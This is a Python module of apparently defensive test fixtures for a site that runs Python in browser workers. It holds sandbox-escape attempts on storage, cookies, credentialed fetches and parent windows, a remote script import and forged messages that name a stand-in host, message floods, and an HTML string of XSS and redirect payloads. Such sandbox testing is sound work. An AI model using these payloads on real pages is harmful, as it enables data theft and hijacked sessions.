"""Programs that strangers might write: each tries to reach what it must not.

``ATTEMPTS`` try it from Python's own worker, ``NESTED`` from a worker that this one makes, in which
any script runs. Each finds the names in capitals before it, and prints a line for each attempt:
"reached", or "refused" and why. On an ordinary page, whose Python has the site's origin, they reach
what there is.
"""

from __future__ import annotations

import html
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

__all__ = [
    "ATTEMPTS",
    "CHANNEL",
    "FLOOD",
    "FLOOD_OF_RESULTS",
    "FORGED",
    "HOSTILE",
    "LEFT_BEHIND",
    "LISTENER",
    "NESTED",
    "NESTED_MS",
    "REACHED_FROM_ORDINARY_PAGES",
    "STORED",
    "WISHES",
    "kernel_of",
    "names",
    "post_with",
    "verdicts",
]

# A channel of the handbook's own, on which its pages tell each other of edits.
CHANNEL = "handbook-edits"
# What an attempt that succeeds leaves behind.
STORED = "left-by-a-stranger"

ATTEMPTS = f"""\
import asyncio
import js
from pyodide.ffi import create_proxy

def database():
    request = js.indexedDB.open("{STORED}")
    def settle(good, bad):
        request.onsuccess = lambda event: good("open")
        request.onerror = lambda event: bad(request.error)
    return js.Promise.new(create_proxy(settle))

def channel():
    js.BroadcastChannel.new("{CHANNEL}").postMessage("{STORED}")

def page_of_pyscript():
    import pyscript
    return pyscript.window.location.href

attempts = {{
    "IndexedDB": database,
    "Cache Storage": lambda: js.caches.open("{STORED}"),
    "OPFS": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.query(),
    "service worker": lambda: js.navigator.serviceWorker.register(SITE + "service-worker.js"),
    "cookies": lambda: js.cookieStore.set("{STORED}", "1"),
    "as the reader": lambda: js.fetch(SITE, credentials="include"),
    "the document": lambda: js.document.title,
    "the parent": lambda: js.parent.location.href,
    "the opener": lambda: js.opener.location.href,
    "pyscript.window": page_of_pyscript,
    "the channel": channel,
}}
async def main():
    for name, attempt in attempts.items():
        try:
            found = attempt()
            if hasattr(found, "__await__"):
                await found
            print(f"{{name}}: reached")
        except BaseException as error:
            print(f"{{name}}: refused, {{type(error).__name__}}: {{str(error)[:80]}}")

asyncio.run(main())
"""

# What Python of an ordinary page reaches, in every engine: so the attempts are real ones.
REACHED_FROM_ORDINARY_PAGES = {
    "IndexedDB",
    "Cache Storage",
    "OPFS",
    "locks",
    "as the reader",
    "the channel",
}

SCRIPT = f"""\
const settled = (request) => new Promise((good, bad) => {{
  request.onsuccess = good;
  request.onerror = () => bad(request.error);
}});
const began = (address) => new Promise((good, bad) => {{
  const worker = new Worker(address, {{ type: "module" }});
  worker.onerror = () => bad(new Error("it did not begin"));
  worker.onmessage = good;
}});
const attempts = {{
  "IndexedDB": () => settled(indexedDB.open("{STORED}")),
  "Cache Storage": () => caches.open("{STORED}"),
  "OPFS": () => navigator.storage.getDirectory(),
  "locks": () => navigator.locks.query(),
  "service worker": () => navigator.serviceWorker.register(site + "service-worker.js"),
  "as the reader": () => fetch(site, {{ credentials: "include" }}),
  "a worker of the site": () => began(site + kernel),
  "a script from elsewhere": () => import("https://elsewhere.invalid/script.js"),
  "a function of text": () => new Function("return 1")(),
  "the parent": () => parent.location.href,
  "the channel": () => new BroadcastChannel("{CHANNEL}").postMessage("{STORED}"),
}};
const lines = [];
for (const [name, attempt] of Object.entries(attempts)) {{
  const late = new Promise((_, bad) => setTimeout(bad, 3000, new Error("no answer")));
  try {{
    await Promise.race([attempt(), late]);
    lines.push(`${{name}}: reached`);
  }} catch (error) {{
    lines.push(`${{name}}: refused, ${{error}}`.slice(0, 100));
  }}
}}
postMessage(lines.join(String.fromCharCode(10)));
"""

NESTED = f"""\
import asyncio
import js
from urllib.parse import quote
from pyodide.ffi import create_proxy, to_js

script = f"const site = {{SITE!r}}, kernel = {{KERNEL!r}};" + '''{SCRIPT}'''

def address(kind):
    if kind == "data":
        return "data:text/javascript," + quote(script)
    options = to_js({{"type": "text/javascript"}}, dict_converter=js.Object.fromEntries)
    return js.URL.createObjectURL(js.Blob.new(to_js([script]), options))

kept = []

def begin(kind):
    def settle(good, bad):
        module = to_js({{"type": "module"}}, dict_converter=js.Object.fromEntries)
        worker = js.Worker.new(address(kind), module)
        kept.append(worker)  # engines may end one that nothing holds
        worker.onmessage = lambda event: good(event.data)
        worker.onerror = lambda event: bad(js.Error.new("it did not begin"))
    return js.Promise.new(create_proxy(settle))

async def main():
    for kind in ("data", "blob"):
        try:
            print(await asyncio.wait_for(begin(kind), 8))
            print(f"{{kind}} worker: ended")
        except BaseException as error:
            print(f"{{kind}} worker: refused, {{error}}")

asyncio.run(main())
"""

# Longer than it waits for its workers.
NESTED_MS = 25_000

# Sent by Python as what its worker may send; none has a meaning, or a meaning for another.
FORGED = """\
import json, js
import _handbook_host
from pyodide.ffi import to_js

def as_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)

posted = [
    {"type": "kernel", "kernel": "https://elsewhere.invalid/", "interpreter": "data:,"},
    {"type": "done", "run": 999999, "outcome": "ok", "seconds": 0, "error": None},
    {"type": "output", "run": 1, "chunks": [{"stream": "stdout", "text": {"a": 1}}]},
    {"type": "display", "run": 1, "data": {"text/html": 1}},
    {"type": "__proto__"},
    {"type": "broken"},
    "handbook:port",
]
for message in posted:
    _handbook_host.post(json.dumps(message))
    if message == {"type": "broken"}:
        continue  # a worker may say of itself that it is
    js.postMessage(as_object(message))
    js.postMessage(as_object(message), to_js([js.MessageChannel.new().port1]))
print("goes on")
"""

# The page fetches files of the runtime for the worker: is there any other that it would fetch?
WISHES = """\
import asyncio
import js
from pyodide.ffi import create_proxy, to_js

def wish(number, address):
    def settle(good, bad):
        def hear(event):
            if getattr(event.data, "type", None) == "file" and event.data.id == number:
                good(bool(event.data.content))
        js.addEventListener("message", create_proxy(hear))
        message = {"type": "want", "id": number, "address": address}
        js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
    return js.Promise.new(create_proxy(settle))

async def main():
    for number, path in enumerate(PATHS, 1_000_000):
        print(f"{number}: {'reached' if await wish(number, path) else 'refused'}, {path}")

asyncio.run(main())
"""

FLOOD = "import js\nwhile True:\n    js.postMessage(1)\n"

FLOOD_OF_RESULTS = """\
from handbook import display

class Table:
    def _repr_html_(self):
        return "<p>shown</p>"

for _ in range(3000):
    display(Table())
print("ended")
"""

HTML = """\
<p>shown</p>
<script>top.postMessage("from a script", "*"); top.location = "https://elsewhere.invalid/"</script>
<img src="x" onerror="top.postMessage('from a handler', '*')">
<svg onload="top.postMessage('from a drawing', '*')"><circle r="9" /></svg>
<iframe srcdoc="<script>top.postMessage('from a frame', '*')</script>"></iframe>
<object data="data:text/html,<script>top.postMessage('from an object', '*')</script>"></object>
<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/">
<base href="https://elsewhere.invalid/">
<form action="https://elsewhere.invalid/" target="_top"><button>Send</button></form>
<p><a href="https://elsewhere.invalid/" target="_top">Leave</a></p>
<p><a href="javascript:top.postMessage('from a link', '*')">Run</a></p>
"""
HOSTILE = f"""\
from handbook import display

class Hostile:
    def _repr_html_(self):
        return {HTML!r}

display(Hostile())
"""

# Every document of a visit notes the messages that it gets, and what is said on the channel.
LISTENER = f"""\
globalThis.heard = [];
addEventListener("message", ({{ data }}) => globalThis.heard.push(JSON.stringify(data) ?? ""));
globalThis.onChannel = [];
const channel = new BroadcastChannel({CHANNEL!r});
channel.onmessage = ({{ data }}) => globalThis.onChannel.push(data);
"""

LEFT_BEHIND = """async (name) => {
    const left = [];
    const databases = await indexedDB.databases();
    if (databases.some((one) => one.name === name)) left.push("a database");
    if (await caches.has(name)) left.push("a cache");
    return left;
}"""


def post_with(embed: str, program: str = "print('nothing yet')") -> str:
    """Return a page of a blog that shows a program.

    :param embed: address of embed.js
    """
    code = html.escape(program)
    return (
        f'<script type="module" src="{embed}"></script><main><h1>A post</h1>'
        f'<py-snippet><pre><code class="language-python">{code}</code></pre></py-snippet></main>'
    )


def verdicts(output: str) -> dict[str, str]:
    """Return the word for each attempt by its name, as a program has printed it."""
    return dict(re.findall(r"^([^:\n]+): (reached|refused|ended)", output, re.MULTILINE))


def kernel_of(folder: Path) -> str:
    """Return the path of a worker script of the site, as any visitor can find it.

    :param folder: of the built site
    """
    (kernel,) = folder.glob("assets/kernel-*.js")
    return kernel.relative_to(folder).as_posix()


def names(site: str, folder: Path) -> str:
    """Return the names in capitals that the programs find before them.

    :param site: its address
    :param folder: of the built site
    """
    return f"SITE = {site!r}\nKERNEL = {kernel_of(folder)!r}\n"
